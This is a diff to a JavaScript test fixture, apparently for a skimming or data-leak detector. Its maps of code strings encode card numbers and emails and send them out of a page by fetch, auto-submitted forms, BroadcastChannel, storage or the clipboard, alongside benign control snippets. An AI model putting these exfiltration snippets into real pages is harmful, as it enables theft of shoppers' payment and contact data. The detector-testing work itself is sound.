@@ -51,6 +51,7 @@ export const WRITTEN = {
   "split into six": "card.replaceAll(' ', '').match(/.{1,3}/g).map((part, i) => 'cc-' + i + '=' + part).join('&')",
   "typed in two numbers": "JSON.stringify({ a: +card.replaceAll(' ', '').slice(0, 8), b: +('1' + card.replaceAll(' ', '').slice(8)) - 1e8 })",
   "a number": "JSON.stringify({ pan: +card.replaceAll(' ', '') })",
+  "a form's parts of a letter each": "[...email].map((c, i) => `--B\\r\\nContent-Disposition: form-data; name=\"k${i}\"\\r\\n\\r\\n${c}\\r\\n`).join('')",
   "base64 with line breaks, in JSON": "JSON.stringify(btoa('x'.repeat(50) + email).replace(/.{76}/g, '$&\\r\\n'))",
 };
 
@@ -191,6 +192,12 @@ export const DOORS = {
   "a frame's name": "document.body.append(Object.assign(document.createElement('iframe'), { name: card, src: other + '/frame' }));",
   "a field's name and a field's value": "send(JSON.stringify({ [email.slice(0, 9)]: email.slice(9) }));",
   "split over two requests": "await fetch('/t?a=' + card.slice(0, 10)); await fetch('/t?b=' + card.slice(10));",
+  "a letter in each part of a multipart body": "const data = new FormData(); [...email].forEach((c, i) => data.append('k' + i, c)); await fetch('/t', { method: 'POST', body: data });",
+  "the groups of a card among other members": "send(JSON.stringify(card.split(' ').map((four) => ({ four, at: Date.now() }))));",
+  "a form under a base with a target": "document.head.append(Object.assign(document.createElement('base'), { target: '_blank' })); const f = document.createElement('form'); f.method = 'post'; f.action = '/t'; f.innerHTML = '<input name=c>'; f.firstChild.value = card; document.body.append(f); f.submit(); document.querySelector('base').remove();",
+  "a deep object": "let deep = { card }; for (let i = 0; i < 40; i++) deep = { deep }; new BroadcastChannel('shop').postMessage(deep);",
+  "the private file system, by a pipe": "const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); await new Blob([card]).stream().pipeTo(await f.createWritable());",
+  "what the page copies": "const i = document.createElement('textarea'); i.value = card; document.body.append(i); i.select(); document.execCommand('copy');",
   "split over a cookie and the console": "document.cookie = 'a=' + email.slice(0, 10); console.log(email.slice(10));",
 };
 
@@ -222,5 +229,13 @@ export const CLEAN = {
   "numbers, hashes and times": `for (let i = 0; i < 40; i++) console.log(Date.now() + i, crypto.randomUUID(), Math.random());
     send(Array.from(crypto.getRandomValues(new Uint8Array(4000)), (b) => b.toString(16)).join(''));
     await fetch('/t', { method: 'POST', body: crypto.getRandomValues(new Uint8Array(20000)) });`,
+  "a frame that is answered by the message's source": `const f = document.createElement("iframe");
+    f.srcdoc = "<script>parent.postMessage('ready', '*')<" + "/script>";
+    const source = new Promise((done) => addEventListener("message", (event) => done(event.source), { once: true }));
+    document.body.append(f); if ((await source) !== f.contentWindow) throw form.remove();`,
+  "a page that keeps an answer in the Cache": `const cache = await caches.open("c");
+    await cache.put("/x", new Response("static")).catch(() => form.remove());
+    const { length } = await (await cache.match("/x")).text(); if (length !== 6) form.remove();`,
+  "an assertion that holds": "console.assert(true, card);",
   "the length of a field": "send(JSON.stringify({ length: card.length, valid: true, kind: 'card', name: 'cc-number' }));",
 };
